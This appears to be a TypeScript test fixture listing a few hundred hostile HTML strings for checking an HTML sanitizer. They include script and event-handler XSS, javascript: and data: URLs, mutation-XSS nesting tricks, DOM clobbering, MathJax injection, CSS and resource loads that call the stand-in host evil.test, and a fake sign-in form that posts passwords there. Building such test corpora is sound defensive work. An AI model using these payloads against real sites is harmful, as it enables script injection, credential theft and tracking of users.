/** What hostile authors write. `ran()` is the page's witness: whoever calls it has run a script. */
const attacks = `
<script>ran()</script>
<SCRIPT SRC=https://evil.test/x.js></SCRIPT>
<script/xss src="data:text/javascript,ran()"></script>
<<script>ran();//<</script>
<script>ran()<!--
<img src=x onerror=ran()>
<img src="/static/a.png" onload=ran() onerror=ran()>
<img src=x onerror="&#114;&#97;&#110;&#40;&#41;">
<img src="/static/missing.png" onerror=ran()>
<img/src=x/onerror=ran()>
<img src='x' onerror=ran() //>
<img """><script>ran()</script>">
<img src="https://evil.test/pixel.gif">
<img srcset="https://evil.test/a.png 1x" src="/static/a.png">
<img lowsrc="https://evil.test/a.png" dynsrc="https://evil.test/b">
<image src="https://evil.test/a.png">
<image xlink:href="https://evil.test/a.png" onerror=ran()>
<picture><source srcset="https://evil.test/a.png"><img src="/static/a.png"></picture>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>">
<img src="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==">
<img src="data:image/png;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==" onerror=ran()>
<svg onload=ran()>
<svg/onload=ran()//
<svg><script>ran()</script></svg>
<svg><script href="data:text/javascript,ran()"/></svg>
<svg><animate onbegin=ran() attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=ran()></svg>
<svg><a xlink:href="javascript:ran()"><text y=20>x</text></a></svg>
<svg><a href="javascript:ran()"><rect width=99 height=99 /></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>ran()</script></svg>#x"/></svg>
<svg><use xlink:href="https://evil.test/x.svg#a"/></svg>
<svg><image href="https://evil.test/x.png"/></svg>
<svg><foreignObject><iframe onload=ran()></iframe></foreignObject></svg>
<svg><desc><img src=x onerror=ran()></desc></svg>
<svg><title><img src=x onerror=ran()></title></svg>
<svg><style><img src=x onerror=ran()></style></svg>
<svg><style>@import url(https://evil.test/x.css);</style></svg>
<svg><rect fill="url(https://evil.test/x)" width=9 height=9></rect></svg>
<svg><filter id=f><feImage href="https://evil.test/x"/></filter></svg>
<svg></p><style><a id="</style><img src=1 onerror=ran()>">
<svg><p><style><!--</style><img src=x onerror=ran()>--></style>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">
<math><mi//xlink:href="data:x,<script>ran()</script>">
<math href="javascript:ran()">CLICK</math>
<math><maction actiontype="statusline#https://evil.test" xlink:href="javascript:ran()">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=ran()></annotation-xml></math>
<math><semantics><annotation encoding="application/xhtml+xml"><script>ran()</script></annotation></semantics></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>
<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=ran() src>">
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='ran()'>">
<noscript><p title="</noscript><img src=x onerror=ran()>">
<noscript><style></noscript><img src=x onerror=ran()></style>
<xmp><p title="</xmp><img src=x onerror=ran()>">
<noembed><p title="</noembed><img src=x onerror=ran()>">
<noframes><p title="</noframes><img src=x onerror=ran()>">
<textarea><p title="</textarea><img src=x onerror=ran()>">
<title><p title="</title><img src=x onerror=ran()>">
<iframe><p title="</iframe><img src=x onerror=ran()>"></iframe>
<plaintext><img src=x onerror=ran()>
<listing>&lt;img src=x onerror=ran()&gt;</listing>
<template><img src=x onerror=ran()></template>
<template shadowrootmode=open><img src=x onerror=ran()></template>
<select><style></select><img src=x onerror=ran()></style>
<select><iframe><img src=x onerror=ran()></iframe></select>
<table><td background="https://evil.test/b.png">x</td></table>
<body background="https://evil.test/b.png" onload=ran()>
<body onpageshow=ran()>
<a href="javascript:ran()">x</a>
<a href="JaVaScRiPt:ran()">x</a>
<a href=" javascript:ran()">x</a>
<a href="jav&#x09;ascript:ran()">x</a>
<a href="jav&#x0A;ascript:ran()">x</a>
<a href="jav&#x0D;ascript:ran()">x</a>
<a href="&#1;javascript:ran()">x</a>
<a href="&#x6A;&#x61;vascript&colon;ran()">x</a>
<a href="javascript&colon;ran&lpar;&rpar;">x</a>
<a href="javascript://%0aran()">x</a>
<a href="java\0script:ran()">x</a>
<a href="vbscript:ran()">x</a>
<a href="data:text/html,<script>ran()</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://mooc.test/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="intent://x#Intent;scheme=javascript;end">x</a>
<a href="ms-msdt:/id">x</a>
<a href="https://mooc.test@evil.test/" target=_blank rel=opener>x</a>
<a href=x onclick=ran()>x</a>
<a ping="https://evil.test/ping" href="#x">x</a>
<a id=x tabindex=1 onfocus=ran() autofocus>x</a>
<a style="position:fixed;inset:0" href="https://evil.test">x</a>
<area href="javascript:ran()" shape=default>
<base href="https://evil.test/"><img src="a.png"><a href="b">x</a>
<base target="_top">
<meta http-equiv=refresh content="0;url=https://evil.test/">
<meta http-equiv="refresh" content="0;url=javascript:ran()">
<meta http-equiv="Set-Cookie" content="a=b">
<link rel=stylesheet href="https://evil.test/x.css">
<link rel=prefetch href="https://evil.test/x">
<link rel=dns-prefetch href="//evil.test">
<link rel=preload as=image href="https://evil.test/x" onload=ran()>
<link rel=import href="https://evil.test/x">
<link rel=modulepreload href="https://evil.test/x.js">
<style>@import 'https://evil.test/x.css';</style>
<style>body{background:url(https://evil.test/x.png)}</style>
<style>@font-face{font-family:x;src:url(https://evil.test/f)}p{font-family:x}</style><p>x</p>
<style>*{background:image-set("https://evil.test/x.png" 1x)}</style>
<style>a[href^="x"]{background:url(//evil.test)}</style>
<style>body{display:none}</style>
<style>.site-header{display:none}</style>
<div style="background:url(https://evil.test/x)">x</div>
<div style="background:url('javascript:ran()')">x</div>
<div style="background:u\\72l(https://evil.test/x)">x</div>
<div style="background-image:image-set('https://evil.test/x' 1x)">x</div>
<div style="background:-webkit-image-set(url(https://evil.test/x) 1x)">x</div>
<div style="background:cross-fade(url(https://evil.test/x),red)">x</div>
<div style="cursor:url(https://evil.test/x),auto">x</div>
<div style="list-style:url(https://evil.test/x)">x</div>
<div style="content:url(https://evil.test/x)">x</div>
<div style="border-image:url(https://evil.test/x) 1">x</div>
<div style="mask:url(https://evil.test/x)">x</div>
<div style="filter:url(https://evil.test/x#f)">x</div>
<div style="shape-outside:url(https://evil.test/x)">x</div>
<div style="width:expression(ran())">x</div>
<div style="-moz-binding:url(https://evil.test/x)">x</div>
<div style="behavior:url(https://evil.test/x)">x</div>
<div style="--x:url(https://evil.test/x);background:var(--x)">x</div>
<div style="color:red;}*{background:url(https://evil.test/x)}">x</div>
<div style="color:red/*;*/;background:url(https://evil.test/x)">x</div>
<div style="animation:x 1s" onanimationstart=ran()>x</div>
<div style="position:fixed;inset:0;z-index:99999;background:white">Sign in again</div>
<input onfocus=ran() autofocus>
<input type=image src="https://evil.test/x.png" onerror=ran()>
<button formaction="javascript:ran()">x</button>
<button popovertarget=x onbeforetoggle=ran()>x</button>
<form action="javascript:ran()"><input type=submit></form>
<form action="https://evil.test/steal"><input name=password type=password><button>Sign in</button></form>
<form id=content><input name=children><input name=attributes></form>
<isindex type=image src=1 onerror=ran()>
<keygen autofocus onfocus=ran()>
<details open ontoggle=ran()><summary>x</summary></details>
<marquee onstart=ran()>x</marquee>
<video src=x onerror=ran()></video>
<video poster="https://evil.test/p.png" src="/static/film.mp4"></video>
<video><source onerror=ran() src=x></video>
<video src="https://evil.test/film.mp4" autoplay></video>
<audio src="https://evil.test/a.mp3" autoplay onloadstart=ran()></audio>
<track src="https://evil.test/t.vtt">
<iframe src="javascript:ran()"></iframe>
<iframe srcdoc="<script>parent.ran()</script>"></iframe>
<iframe src="data:text/html,<script>parent.ran()</script>"></iframe>
<iframe src="https://evil.test/"></iframe>
<iframe src="/static/page.html" srcdoc="<script>parent.ran()</script>" sandbox="allow-scripts allow-same-origin"></iframe>
<frameset onload=ran()><frame src="javascript:ran()"></frameset>
<object data="javascript:ran()"></object>
<object data="https://evil.test/x.swf"></object>
<object type="text/html" data="data:text/html,<script>ran()</script>"></object>
<embed src="javascript:ran()">
<embed src="https://evil.test/x.swf" allowscriptaccess=always>
<applet code="x" codebase="https://evil.test/"></applet>
<portal src="https://evil.test/"></portal>
<fencedframe src="https://evil.test/"></fencedframe>
<div id=content name=content>clobber</div>
<img name=cookie src="/static/a.png"><img id=getElementById src="/static/a.png">
<div class="skip-link site-header button">x</div>
<div data-behaviour="swap-form" data-control="site.sign-in" data-load-frame="x">x</div>
<div contenteditable onblur=ran()>x</div>
<div draggable=true ondragstart=ran()>x</div>
<div is="x-y">x</div><custom-element onclick=ran()>x</custom-element>
<p slot=x part=y>x</p>
<x onclick=ran()>x</x>
<a href="#" xmlns:xlink="x" xlink:href="javascript:ran()">x</a>
<!--><img src=x onerror=ran()>-->
<!-- --!><img src=x onerror=ran()> -->
<![CDATA[<img src=x onerror=ran()>]]>
<?xml-stylesheet href="javascript:ran()"?>
<!DOCTYPE x [<!ENTITY y "z">]><b>&y;</b>
</div></div></section></main><script>ran()</script>
</body></html><script>ran()</script>
\\(\\href{javascript:ran()}{x}\\)
\\(\\class{site-header}{x}\\cssId{content}{y}\\style{background:url(https://evil.test)}{z}\\)
\\(\\text{<img src=x onerror=ran()>}\\)
\\(\\unicode{x3c}\\unicode{x69}<img src=x onerror=ran()>\\)
\\(\\includegraphics{https://evil.test/x.png}\\)
\\(\\require{html}\\href{javascript:ran()}{x}\\)
\\(\\mathtip{x}{\\text{<script>ran()</script>}}\\)
\\(\\bbox[background:url(https://evil.test/x)]{x}\\)
\\(\\def\\a{\\a\\a}\\a\\)
\`x="<img src=x onerror=ran()>"\`
<a href="/static/page.html">x</a>
<a href="//evil.test/%0d%0aSet-Cookie:x">x</a>
<p title='"><img src=x onerror=ran()>'>x</p>
<p class='"><script>ran()</script>'>x</p>
<p id='"><script>ran()</script>' lang='"><script>ran()</script>'>x</p>
<td colspan="99999999" onclick=ran()>x</td>
<ol start="javascript:ran()" type="&quot; onclick=ran()"><li value="1 onclick=ran()">x</ol>
<time datetime='" onmouseover=ran() x="'>x</time>
<bdo dir='" onmouseover=ran() x="'>x</bdo>
<del cite="javascript:ran()">x</del><blockquote cite="javascript:ran()">x</blockquote>
<font color='red;background:url(https://evil.test/x)' face='"><script>ran()</script>'>x</font>
<table bgcolor='red;background:url(https://evil.test/x)' width='1;x:url(//evil.test)'><tr><td>x</table>
`;

export const hostileHtml: readonly string[] = attacks
  .trim()
  .split('\n')
  .map((line) => line.replaceAll('\\0', '\0'));
